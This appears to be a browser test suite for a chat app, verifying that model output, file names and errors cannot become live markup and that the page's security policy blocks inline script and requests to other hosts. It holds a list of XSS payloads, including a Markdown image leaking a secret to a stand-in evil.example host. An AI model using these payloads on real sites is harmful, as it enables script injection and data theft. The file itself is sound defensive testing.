// No text may become markup of its own, whoever wrote it: the model, a file, a title, an import, an error of the server.
import assert from 'node:assert/strict';
import { ask, begin, button, finished, pageTest } from './browser.mjs';

const HOSTILE = [
  '<script>window.hit = 1</script>',
  '<img src=x onerror="window.hit=1">',
  '<svg onload="window.hit=1"><script>window.hit=1</script></svg>',
  '<svg><a xlink:href="javascript:window.hit=1"><text>x</text></a></svg>',
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  '<object data="data:text/html,<script>parent.hit=1</script>"></object>',
  '<math><mtext></p><style><img src=x onerror="window.hit=1"></style></mtext></math>',
  '<form action="https://evil.example"><button>x</button></form>',
  '<style>body{display:none}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example/">',
  '<p style="position:fixed;inset:0" class="shade" id="app">cover</p>',
  '<br onclick="window.hit=1" style="x"><sub onmouseover=window.hit=1>x</sub>',
  '<BR/x onclick=window.hit=1>',
  '[a](javascript:window.hit=1) [b](JaVaScRiPt:window.hit=1) [c](data:text/html,<script>window.hit=1</script>) [d](vbscript:x) [e](\u0001javascript:window.hit=1) [f](java&#x0A;script:window.hit=1)',
  '<javascript:window.hit=1> <a href="javascript:window.hit=1">x</a>',
  '[x](https://a.b/" onmouseover="window.hit=1) [y](<https://a.b/"onclick="window.hit=1>)',
  '![x](https://evil.example/leak?q=secret) ![y](x" onerror="window.hit=1)',
  '![<img src=x onerror=window.hit=1>](https://a.b/c)',
  '```"><img src=x onerror=window.hit=1>\n</code></pre><script>window.hit=1</script>\n```',
  '```html\n<script>window.hit=1</script><img src=x onerror=window.hit=1>\n```',
  '`</code><img src=x onerror=window.hit=1>`',
  '| <img src=x onerror=window.hit=1> | b |\n|---|---|\n| <script>window.hit=1</script> | c |',
  '# <img src=x onerror=window.hit=1>\n\n- <svg onload=window.hit=1>\n\n> <iframe src=javascript:window.hit=1>',
  '$\\href{javascript:window.hit=1}{x}$ $\\url{javascript:window.hit=1}$ $\\includegraphics{https://evil.example/x.png}$',
  '$\\htmlStyle{position:fixed}{x}$ $\\htmlData{a=b}{x}$ $\\htmlId{app}{x}$ $\\htmlClass{shade}{x}$',
  '$$<img src=x onerror=window.hit=1>$$ $\\text{</span><img src=x onerror=window.hit=1>}$',
  '$\\def\\a{\\a\\a}\\a$ $\\rule{9999em}{9999em}$',
  '<!--><img src=x onerror=window.hit=1>--> <![CDATA[<script>window.hit=1</script>]]> <?php ?>',
  '<noscript><p title="</noscript><img src=x onerror=window.hit=1>"></noscript>',
  '[ref]: javascript:window.hit=1 "x\n\n[ref] [ok][ref]\n\n[ok]: data:text/html;base64,PHNjcmlwdD4=',
  '<a id=location name=hit>clobber</a><form name=body><input name=innerHTML></form>',
  '&lt;script&gt;window.hit=1&lt;/script&gt; &#60;img src=x onerror=window.hit=1&#62;',
  '<div\n\nonclick="window.hit=1">x</div>',
];

const FORBIDDEN =
  'script, iframe, object, embed, form, style, link, meta, base, img, svg [onload], [onerror], [onclick], [onload], [onmouseover], [srcdoc], video, audio';

/** What an attacker would have gained. */
async function harm(page) {
  return page.evaluate((forbidden) => {
    const inside = [
      ...document.querySelectorAll(
        '.message .markdown, .bubble, .entry, .toast, .failure, .file-chip, .tool-call',
      ),
    ];
    const found = inside.flatMap((each) =>
      [...each.querySelectorAll(forbidden)]
        .filter((element) => !element.closest('.katex, .key-form'))
        .map((element) => element.outerHTML.slice(0, 120)),
    );
    const links = inside
      .flatMap((each) => [...each.querySelectorAll('a[href]')])
      .map((a) => a.href)
      .filter((href) => !/^(https?|mailto):/.test(href));
    const styled = [...document.querySelectorAll('.markdown [style]')]
      .filter((element) => !element.closest('.katex'))
      .map((element) => element.outerHTML.slice(0, 120));
    const ids = [...document.querySelectorAll('.message .markdown [id], .message .markdown [name]')].map(
      (element) => element.outerHTML.slice(0, 120),
    );
    return { hit: window.hit, found, links, styled, ids };
  }, FORBIDDEN);
}

const NONE = { hit: undefined, found: [], links: [], styled: [], ids: [] };

pageTest('hostile Markdown stays text', async (page, mock) => {
  for (const [index, text] of HOSTILE.entries()) mock.replies.set(`case ${index}`, text);
  mock.replies.set('all', HOSTILE.join('\n\n'));
  await button(page, 'Think').click();
  for (let index = 0; index < HOSTILE.length; ++index) {
    await ask(page, `case ${index}`);
    assert.deepEqual(await harm(page), NONE, HOSTILE[index]);
  }
  await ask(page, 'all');
  for (const link of await page.locator('.answer .markdown a').all())
    await link.hover({ force: true, timeout: 500 }).catch(() => {});
  await page.waitForTimeout(200);
  assert.deepEqual(await harm(page), NONE);
});

pageTest('hostile text stays text elsewhere too', async (page, mock, faults) => {
  const text = '<img src=x onerror=window.hit=1><script>window.hit=1</script>';
  await page.setInputFiles('.composer input[type=file]', {
    name: `${text}.txt`,
    mimeType: 'text/plain',
    buffer: Buffer.from(text),
  });
  await ask(page, text); // title, bubble, file name
  await page.setInputFiles('.composer input[type=file]', {
    name: `${text}.png`,
    mimeType: 'image/png',
    buffer: Buffer.from([0, 1, 2]),
  });
  await page.locator('.toast').waitFor();
  mock.key = '<b>other</b>';
  await begin(page, 'x');
  await page.locator('.failure').waitFor();
  await finished(page);
  assert.deepEqual(await harm(page), NONE);
  assert.equal(await page.title(), `${text.slice(0, 59)}… · jaju`);
  assert.deepEqual(faults, []);
});

pageTest(
  'the policy holds: no markup from strings, no other host, no inline script',
  async (page, mock, faults) => {
    const tried = await page.evaluate(async () => {
      const results = {};
      try {
        document.createElement('div').innerHTML = '<b>x</b>';
        results.markup = 'allowed';
      } catch (error) {
        results.markup = error.name;
      }
      results.fetch = await fetch('https://evil.example/').then(
        () => 'allowed',
        (error) => error.name,
      );
      // Later: while a tool evaluates, Chromium looks away.
      results.code = await new Promise((resolve) =>
        setTimeout(() => {
          try {
            resolve(new Function('return 1')());
          } catch (error) {
            resolve(error.name);
          }
        }, 50),
      );
      const script = document.createElement('script');
      try {
        script.textContent = 'window.inline = 1';
      } catch {
        // a trusted type is wanted
      }
      document.head.append(script);
      results.inline = window.inline ?? 'blocked';
      return results;
    });
    assert.deepEqual(tried, {
      markup: 'TypeError',
      fetch: 'TypeError',
      code: 'EvalError',
      inline: 'blocked',
    });
    assert.ok(faults.some((fault) => fault.includes('POLICY')));
    faults.length = 0;
  },
);
